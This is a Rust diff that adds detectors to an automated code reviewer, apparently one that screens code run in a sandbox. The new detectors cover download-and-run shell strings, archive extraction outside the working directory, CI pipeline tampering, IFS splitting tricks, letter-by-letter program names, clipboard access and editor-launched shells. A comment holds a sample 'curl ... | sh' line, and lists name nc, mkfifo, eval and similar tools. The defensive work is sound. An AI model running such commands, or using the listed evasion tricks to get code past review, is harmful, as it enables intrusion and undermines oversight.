@@ -224,6 +224,8 @@ pub(super) fn lists() -> impl Iterator<Item = &'static str> {
         }),
     )
     .chain(GIT_COMMAND_SETTINGS.iter().chain(AWK_COMMANDS).copied())
+    .chain(EDITORS.iter().chain(CLIPBOARD_TOOLS).copied())
+    .chain(["extractall(", "unpack_archive("])
 }
 
 /// Python functions and dunders a program names in a string only to hide
@@ -288,6 +290,10 @@ const JS_HIDDEN_NAMES: &[&str] = &[
     "_load",
     "_compile",
     "require",
+    "process",
+    "env",
+    "fetch",
+    "globalThis",
 ];
 /// Modules whose name, written in pieces, hides an import.
 const MODULE_NAMES: &[&str] = &[
@@ -333,6 +339,10 @@ const LOADER_VARIABLES: &[&str] = &[
     "GIT_EXTERNAL_DIFF",
     "GIT_ASKPASS",
     "SSH_ASKPASS",
+    // Files through which a CI step sets the environment and PATH of the
+    // steps after it.
+    "GITHUB_ENV",
+    "GITHUB_PATH",
 ];
 /// Calls that decode data a program may then run.
 const DECODERS: &[&str] = &[
@@ -520,7 +530,33 @@ pub(super) fn findings(language: &str, code: &str, literals: &[String]) -> Vec<L
     }
     // `"sys" + "tem"`, `"".join(["o", "s"])`: honest code writes such a
     // name whole.
-    for (at, name) in joined_names(code, &reader, python) {
+    // `"curl -fsSL https://x/h.sh | sh"` written into a hook or a script:
+    // whatever runs it later runs code not reviewed with this one.
+    let pieces = joined_names(code, &reader, python);
+    // A literal's place is its placeholder's (`"S3"`), looked for only
+    // when it is one.
+    let whole = literals
+        .iter()
+        .enumerate()
+        .map(|(i, text)| (Err(i + 1), text.as_str()));
+    let joined = pieces.iter().map(|(at, text)| (Ok(*at), text.as_str()));
+    for (at, text) in whole.chain(joined) {
+        if downloads_and_runs(text) {
+            let at = at.ok().or_else(|| {
+                let n = at.err()?;
+                ["'", "\"", "`"]
+                    .iter()
+                    .find_map(|q| code.find(&format!("{q}S{n}{q}")))
+            });
+            out.push(LiteralFinding {
+                line: at.map_or(1, |at| line_of(code, at)),
+                severity: Severity::Major,
+                id: "holds-download-and-run",
+                message: "holds a shell command that downloads code and runs it (curl | sh): what runs it later (a hook, a script, an npm script) runs code not reviewed with this one; a human decides",
+            });
+        }
+    }
+    for (at, name) in pieces {
         let name = name.trim();
         if hidden_names.contains(&name) || MODULE_NAMES.contains(&name) {
             out.push(LiteralFinding {
@@ -601,12 +637,47 @@ pub(super) fn findings(language: &str, code: &str, literals: &[String]) -> Vec<L
             });
         }
     }
+    // An archive unpacked outside the working directory: its members can
+    // overwrite start-up files, programs or credentials there.
+    if python {
+        let unpacks = ["extractall(", "unpack_archive("]
+            .into_iter()
+            .flat_map(|call| code.match_indices(call).map(move |(at, _)| at + call.len()));
+        for start in unpacks {
+            let mut argument = Some(start);
+            let mut outside = false;
+            for _ in 0..3 {
+                let Some(at) = argument else { break };
+                let text = code[at..].trim_start();
+                let at = at + (code.len() - at - text.len());
+                let value_at = ["path", "extract_dir"]
+                    .iter()
+                    .find_map(|key| {
+                        let rest = text.strip_prefix(key)?.trim_start().strip_prefix('=')?;
+                        Some(at + (text.len() - rest.len()))
+                    })
+                    .unwrap_or(at);
+                outside |= reader.value(value_at, 0).first().is_some_and(|to| {
+                    to.starts_with(['/', '~', '\\']) || to.split(['/', '\\']).any(|p| p == "..")
+                });
+                argument = reader.next_argument(at);
+            }
+            if outside {
+                out.push(LiteralFinding {
+                    line: line_of(code, start - 1),
+                    severity: Severity::Major,
+                    id: "extracts-outside",
+                    message: "unpacks an archive outside the working directory: its files can overwrite start-up files, programs or credentials there; a human decides",
+                });
+            }
+        }
+    }
     // Every literal is a substring of their joined text: what none of
     // them can match is skipped for all.
     // In order, counting lines as it goes: `line_of` for each would read
     // the code again for every literal.
     let mut lines = LineCounter::default();
-    let texts: Vec<(usize, &str)> = ANY_PLACEHOLDER
+    let mut texts: Vec<(usize, &str)> = ANY_PLACEHOLDER
         .captures_iter(code)
         .filter_map(|placeholder| {
             let whole = placeholder.get(0)?;
@@ -616,7 +687,39 @@ pub(super) fn findings(language: &str, code: &str, literals: &[String]) -> Vec<L
             ))
         })
         .collect();
-    out.extend(named_files(&literals.join("\n"), &texts, &texts));
+    let paths = joined_paths(code, &reader);
+    texts.extend(paths.iter().map(|(line, path)| (*line, path.as_str())));
+    // A CI pipeline's definition, in a program that writes files: steps
+    // added there run with the pipeline's secrets.
+    // (Method names: a module used without its import is renamed.)
+    let writes = !opened.is_empty()
+        || in_code.find_iter(change_file, code).next().is_some()
+        || WRITE_METHODS.iter().any(|method| code.contains(method));
+    if writes {
+        let pipeline = texts.iter().find(|(_, text)| {
+            let text = text.replace('\\', "/");
+            text.contains(".github/workflows") || text.ends_with(".gitlab-ci.yml")
+        });
+        if let Some(&(line, _)) = pipeline {
+            out.push(LiteralFinding {
+                line,
+                severity: Severity::Major,
+                id: "changes-ci-pipeline",
+                message: "writes files in a program that names a CI pipeline's definition (.github/workflows, .gitlab-ci.yml): a step added there runs with the pipeline's secrets; a human decides",
+            });
+        }
+    }
+    // `f.constructor` of a function `f`: that is Function, which builds
+    // code from text.
+    if !python {
+        out.extend(function_constructors(code));
+    }
+    let mut all = literals.join("\n");
+    for (_, path) in &paths {
+        all.push('\n');
+        all.push_str(path);
+    }
+    out.extend(named_files(&all, &texts, &texts));
     out.sort_by_key(|f| (f.line, f.id));
     out.dedup();
     out
@@ -688,6 +791,8 @@ fn bash_findings(code: &str, literals: &[String]) -> Vec<LiteralFinding> {
     let mut out = Vec::new();
     let mut texts = Vec::new();
     let mut written = Vec::new();
+    // `IFS=,` on its own line: later unquoted expansions split at commas.
+    let mut ifs_changed = false;
     for command in &commands {
         let writer = command
             .words
@@ -726,9 +831,27 @@ fn bash_findings(code: &str, literals: &[String]) -> Vec<LiteralFinding> {
             .iter()
             .skip_while(|w| is_assignment(&w.text) || w.text == "export")
             .collect();
+        let declares = argv
+            .first()
+            .is_some_and(|w| DECLARERS.contains(&w.text.as_str()));
+        if argv.is_empty() || declares {
+            ifs_changed |= command.words.iter().any(|w| {
+                w.text
+                    .strip_prefix("IFS=")
+                    .is_some_and(splits_unlike_the_default)
+            });
+        }
         let Some(program) = argv.first() else {
             continue;
         };
+        if ifs_changed && !program.quoted && is_plain_expansion(&program.text) {
+            out.push(LiteralFinding {
+                line: command.line,
+                severity: Severity::Critical,
+                id: "run-split-command",
+                message: "runs a command made by splitting a variable on a changed IFS: what runs is hidden from the review",
+            });
+        }
         let words: Vec<String> = argv.iter().map(|w| w.text.clone()).collect();
         let name = basename(&program.text);
         // `curl x | s''h`: what a pipe feeds an interpreter is its program.
@@ -791,6 +914,7 @@ fn bash_findings(code: &str, literals: &[String]) -> Vec<LiteralFinding> {
             });
         }
     }
+    out.extend(spelled_letter_by_letter(code, literals));
     let all = texts.iter().map(|(_, t)| *t).collect::<Vec<_>>().join("\n");
     out.extend(named_files(&all, &texts, &written));
     out.sort_by_key(|f| (f.line, f.id));
@@ -838,7 +962,7 @@ fn runs_a_named_command(
     const HIDDEN: (Severity, &str, &str) = (
         Severity::Critical,
         "run-code-string",
-        "runs a command or code given as text (sourced from stdin, awk's system(), an option of tar or zip that names a command): code hidden from the review",
+        "runs a command or code given as text (sourced from stdin, awk's system(), an option of tar or zip that names a command, sed's e, an editor's command line): code hidden from the review",
     );
     let stdin = |arg: &&str| {
         *arg == "/dev/stdin"
@@ -876,6 +1000,14 @@ fn runs_a_named_command(
                 ));
             }
         }
+        "sed" | "gsed" => {
+            let words: Vec<crate::shell::Word> = args.iter().map(|a| Some(a.to_string())).collect();
+            let scripts = crate::shell::sed_scripts(&words).unwrap_or_default();
+            if scripts.iter().any(|s| crate::shell::sed_runs_commands(s)) {
+                return Some(HIDDEN);
+            }
+        }
+        editor if EDITORS.contains(&editor) && editor_runs_commands(args) => return Some(HIDDEN),
         _ => {}
     }
     let options = COMMAND_OPTIONS
@@ -892,6 +1024,82 @@ fn runs_a_named_command(
         })
     };
     args.iter().any(named).then_some(HIDDEN)
+}
+
+/// Programs that read or write the desktop's clipboard.
+const CLIPBOARD_TOOLS: &[&str] = &[
+    "xclip",
+    "xsel",
+    "wl-copy",
+    "wl-paste",
+    "pbcopy",
+    "pbpaste",
+    "clip",
+    "termux-clipboard-get",
+    "termux-clipboard-set",
+];
+/// Programs whose name spelled letter by letter hides what runs, besides
+/// those [`classify`] knows.
+const PIECES_PROGRAMS: &[&str] = &[
+    "rm", "find", "shred", "eval", "exec", "source", "chmod", "chown", "crontab", "base64", "xxd",
+    "openssl", "nc", "mkfifo",
+];
+
+/// Vim and its kin: `-c`, `--cmd` and `+` give them Ex commands to run.
+const EDITORS: &[&str] = &["vim", "vi", "nvim", "ex", "view", "gvim", "vimdiff", "rvim"];
+/// Ex commands that run another language's code or a script file.
+const EX_RUNNING: &[&str] = &[
+    "py", "py3", "python", "python3", "pyx", "pythonx", "pyfile", "py3file", "pyxfile", "lua",
+    "luafile", "perl", "perlfile", "ruby", "rubyfile", "tcl", "tclfile", "mzscheme", "terminal",
+    "term", "so", "source", "runtime",
+];
+/// Vimscript functions that start a process.
+const EX_PROCESS_CALLS: &[&str] = &[
+    "system(",
+    "systemlist(",
+    "jobstart(",
+    "job_start(",
+    "termopen(",
+    "term_start(",
+    "libcall",
+];
+
+/// Whether an editor's arguments run a shell, another language or a
+/// script file: `-S FILE`, or an Ex command (`-c`, `--cmd`, `+CMD`) that
+/// does.
+fn editor_runs_commands(args: &[&str]) -> bool {
+    let mut args = args.iter();
+    while let Some(arg) = args.next() {
+        let command = match *arg {
+            "-c" | "--cmd" => args.next().copied(),
+            a if a.starts_with("-S") => return true,
+            a => a.strip_prefix('+'),
+        };
+        if command.is_some_and(ex_runs_commands) {
+            return true;
+        }
+    }
+    false
+}
+
+/// Whether Ex `commands` (`|`-separated) run something: `:!cmd`, a range
+/// filtered through a command (`%!sort`), `:r !cmd` and `:w !cmd`, another
+/// language, a sourced file, or a Vimscript process call.
+fn ex_runs_commands(commands: &str) -> bool {
+    commands.split('|').any(|piece| {
+        let piece = piece.trim_start_matches([':', ' ', '\t']);
+        let command = piece.trim_start_matches(|c: char| {
+            c.is_ascii_digit() || matches!(c, '%' | ',' | '.' | '$' | '\'' | '<' | '>' | ';')
+        });
+        let name: String = command
+            .chars()
+            .take_while(char::is_ascii_alphabetic)
+            .collect();
+        command.starts_with('!')
+            || command.contains(" !")
+            || EX_RUNNING.contains(&name.as_str())
+            || EX_PROCESS_CALLS.iter().any(|call| piece.contains(call))
+    })
 }
 
 /// Whether Bash `code` defines a function `name` (`name()`, `function name`).
@@ -941,6 +1149,88 @@ fn is_shell(program: &str) -> bool {
 }
 
 /// `NAME=value`: an assignment before a command (or `export`'s operand).
+/// Whether shell `text` pipes what an HTTP client fetched into an
+/// interpreter (`curl -s URL | sh`).
+fn downloads_and_runs(text: &str) -> bool {
+    if !text.contains('|') || !HTTP_CLIENTS.iter().any(|client| text.contains(client)) {
+        return false;
+    }
+    // A literal as written: its `\n` escapes end commands too.
+    let commands = bash_commands(&text.replace("\\n", "\n"), &[]);
+    commands.windows(2).any(|pair| {
+        let program = |c: &BashCommand| c.words.first().map(|w| basename(&w.text).to_string());
+        pair[1].after_pipe
+            && program(&pair[0]).is_some_and(|p| HTTP_CLIENTS.contains(&p.as_str()))
+            && program(&pair[1]).is_some_and(|p| is_interpreter(&p))
+    })
+}
+
+/// `p=(c u r l)`: an array of single letters that spells a program, to be
+/// joined (`printf -v`, `${p[*]}`) where the name would show.
+fn spelled_letter_by_letter(code: &str, literals: &[String]) -> Vec<LiteralFinding> {
+    let mut out = Vec::new();
+    for (at, _) in code.match_indices("=(") {
+        let Some(len) = code[at + 2..].find(')') else {
+            continue;
+        };
+        let letters: Option<String> = code[at + 2..at + 2 + len]
+            .split_whitespace()
+            .map(|element| {
+                let text = match element.strip_prefix(['"', '\'']) {
+                    Some(inner) => {
+                        placeholder_text(&inner[..inner.len().saturating_sub(1)], literals)
+                    }
+                    None => element.to_string(),
+                };
+                let mut chars = text.chars();
+                match (chars.next(), chars.next()) {
+                    (Some(c), None) if c.is_ascii_alphanumeric() || c == '-' => Some(c),
+                    _ => None,
+                }
+            })
+            .collect();
+        let Some(word) = letters.filter(|w| w.len() >= 2) else {
+            continue;
+        };
+        let program = classify(std::slice::from_ref(&word)).is_some()
+            || is_interpreter(&word)
+            || WRITERS.contains(&word.as_str())
+            || PIECES_PROGRAMS.contains(&word.as_str());
+        if program {
+            out.push(LiteralFinding {
+                line: line_of(code, at),
+                severity: Severity::Critical,
+                id: "name-in-pieces",
+                message: "spells the name of a program letter by letter, which honest code writes whole: obfuscation",
+            });
+        }
+    }
+    out
+}
+
+/// Builtins whose arguments are assignments.
+const DECLARERS: &[&str] = &["local", "declare", "typeset", "readonly", "export"];
+
+/// Whether `IFS=value` makes words split elsewhere than at blanks: not
+/// empty (no splitting), not blanks, not a saved value put back (`$OLD`).
+fn splits_unlike_the_default(value: &str) -> bool {
+    let restored = value
+        .strip_prefix('$')
+        .and_then(|rest| rest.chars().next())
+        .is_some_and(|c| c == '{' || c == '_' || c.is_ascii_alphabetic());
+    !value.is_empty() && !restored && !value.chars().all(|c| matches!(c, ' ' | '\t' | '\n'))
+}
+
+/// `$name` or `${name}`: a variable's value, split into words when
+/// unquoted.
+fn is_plain_expansion(word: &str) -> bool {
+    let name = word
+        .strip_prefix("${")
+        .and_then(|w| w.strip_suffix('}'))
+        .or_else(|| word.strip_prefix('$'));
+    name.is_some_and(|n| !n.is_empty() && n.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_'))
+}
+
 fn is_assignment(word: &str) -> bool {
     word.split_once('=').is_some_and(|(name, _)| {
         !name.is_empty() && name.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'_')
@@ -1060,6 +1350,17 @@ fn bash_commands(code: &str, literals: &[String]) -> Vec<BashCommand> {
                 }
                 split.push(&placeholder_text(&inner, literals), true);
                 split.line += inner.matches('\n').count();
+            }
+            // `${name}` is part of its word, not a group.
+            '{' if before == '$' => {
+                let mut inner = String::from("{");
+                for d in chars.by_ref() {
+                    inner.push(d);
+                    if d == '}' {
+                        break;
+                    }
+                }
+                split.push(&inner, false);
             }
             ' ' | '\t' | '<' => split.end_word(),
             '>' => {
@@ -1278,7 +1579,109 @@ fn joined_names(code: &str, reader: &Reader<'_>, python: bool) -> Vec<(usize, St
             }
         }
     }
+    // JavaScript: `["pro", "cess"].join("")`.
+    if !python {
+        for (at, _) in code.match_indices("].join(") {
+            let Some(open) = list_start(&code[..at]) else {
+                continue;
+            };
+            let separator = code[at + "].join(".len()..].trim_start();
+            let separator = if separator.starts_with(')') {
+                Some(",".to_string())
+            } else {
+                reader.joined(separator)
+            };
+            if let Some(separator) = separator {
+                out.push((open, reader.list(open + 1, 0).join(&separator)));
+            }
+        }
+    }
     out
+}
+
+/// Calls that write a file, by their method's name.
+const WRITE_METHODS: &[&str] = &[
+    ".writeFile",
+    ".appendFile",
+    ".createWriteStream(",
+    ".write_text(",
+    ".write_bytes(",
+    ".write(",
+];
+
+/// `f.constructor` taken as a value where `f` is a function this file
+/// declares (`function f`, `f = function`, `f = (...) =>`).
+fn function_constructors(code: &str) -> Vec<LiteralFinding> {
+    let mut out = Vec::new();
+    for (at, _) in code.match_indices(".constructor") {
+        let after = code[at + ".constructor".len()..].trim_start_matches([' ', '\t']);
+        if !(after.is_empty() || after.starts_with([';', ',', ')', ']', '}', '\n'])) {
+            continue;
+        }
+        let before = code[..at].trim_end();
+        let name_start = before
+            .rfind(|c: char| !(c.is_alphanumeric() || c == '_' || c == '$'))
+            .map_or(0, |i| i + 1);
+        let name = &before[name_start..];
+        if name.is_empty() || name == "this" {
+            continue;
+        }
+        let declared = code.contains(&format!("function {name}("))
+            || code.contains(&format!("function {name} ("))
+            || [" = function", " = async function", " = (", " = async ("]
+                .iter()
+                .any(|form| code.contains(&format!("{name}{form}")));
+        if declared {
+            out.push(LiteralFinding {
+                line: line_of(code, at),
+                severity: Severity::Major,
+                id: "js-constructor-value",
+                message: "takes a function's constructor as a value: that is Function, which builds code from text the review cannot see; a human decides",
+            });
+        }
+    }
+    out
+}
+
+/// `path.join(".github", "workflows")`, `os.path.join(home, ".ssh",
+/// "id_rsa")`: the literal arguments of a join, joined with `/`, with the
+/// call's line (the named files may be split across them).
+fn joined_paths(code: &str, reader: &Reader<'_>) -> Vec<(usize, String)> {
+    let mut out = Vec::new();
+    for (at, _) in code.match_indices("join(") {
+        let mut argument = Some(at + "join(".len());
+        let mut parts = Vec::new();
+        while let Some(start) = argument.take() {
+            let text = code[start..].trim_start();
+            // `"sep".join([...])`: a list, not path parts.
+            if text.starts_with(['[', '(']) {
+                break;
+            }
+            if let Some(part) = reader.joined(text) {
+                parts.push(part);
+            }
+            argument = reader.next_argument(start);
+        }
+        if parts.len() >= 2 {
+            out.push((line_of(code, at), parts.join("/")));
+        }
+    }
+    out
+}
+
+/// Where the list literal that ends at the end of `before` starts (its
+/// `[`).
+fn list_start(before: &str) -> Option<usize> {
+    let mut depth = 0usize;
+    for (i, c) in before.char_indices().rev().take(MAX_ARGUMENT_BYTES) {
+        match c {
+            ']' | ')' | '}' => depth += 1,
+            '[' if depth == 0 => return Some(i),
+            '[' | '(' | '{' => depth = depth.checked_sub(1)?,
+            _ => {}
+        }
+    }
+    None
 }
 
 /// Whether `text` ends with a literal's placeholder (`"S12"`).
@@ -1556,7 +1959,16 @@ fn classify(argv: &[String]) -> Option<(Severity, &'static str, &'static str)> {
         if program.starts_with("python") && rest.first() == Some(&"-m") {
             return None;
         }
-        if rest.iter().any(|w| CODE_OPTIONS.contains(w)) {
+        if let Some(at) = rest.iter().position(|w| CODE_OPTIONS.contains(w)) {
+            // `node -p "require('./package.json').name"`: code that is all
+            // there, and that the review approves on its own, is no more
+            // hidden than the rest of the file.
+            if rest
+                .get(at + 1)
+                .is_some_and(|code| inline_code_approved(program, code))
+            {
+                return None;
+            }
             return Some((
                 Severity::Critical,
                 "run-code-string",
@@ -1592,6 +2004,13 @@ fn classify(argv: &[String]) -> Option<(Severity, &'static str, &'static str)> {
             "starts a network client beyond HTTP: the jail's one way out is the channel (and HTTP(S) through its egress proxy); call tools with jail-call",
         ));
     }
+    if CLIPBOARD_TOOLS.contains(&program) {
+        return Some((
+            Severity::Major,
+            "run-clipboard-tool",
+            "reads or writes the desktop's clipboard (what a user copies: passwords, wallet addresses): a human decides",
+        ));
+    }
     if PRIVILEGE_TOOLS.contains(&program) {
         return Some((
             Severity::Major,
@@ -1608,6 +2027,38 @@ fn classify(argv: &[String]) -> Option<(Severity, &'static str, &'static str)> {
         ));
     }
     None
+}
+
+/// The longest code string [`inline_code_approved`] reads: a one-liner.
+/// The models see strings as placeholders, so code in a string is read by
+/// the built-in reviewer alone; only what it can judge at a glance passes.
+const INLINE_CODE_BYTES: usize = 160;
+
+/// Whether `code`, given to `interpreter` as a string, is a one-line
+/// Python or JavaScript program the built-in reviewer approves as a file of
+/// its own. Not when it has a `$` or a backquote: in a shell's word that is
+/// an expansion, and the code is not all there.
+fn inline_code_approved(interpreter: &str, code: &str) -> bool {
+    let lang = if interpreter.starts_with("python") {
+        crate::Lang::Python
+    } else if matches!(interpreter, "node" | "nodejs") {
+        crate::Lang::JavaScript
+    } else {
+        return false;
+    };
+    if code.len() > INLINE_CODE_BYTES || code.contains(['$', '`', '\n']) {
+        return false;
+    }
+    let Ok(parsed) = crate::parse::parse(lang, code) else {
+        return false;
+    };
+    let sanitized = crate::sanitize::sanitize(&parsed.walked());
+    let answer = super::builtin::BuiltinReviewer::new().judge_with_literals(
+        lang.name(),
+        &sanitized.code,
+        &sanitized.literals,
+    );
+    answer.verdict == super::Verdict::Approve
 }
 
 fn basename(word: &str) -> &str {
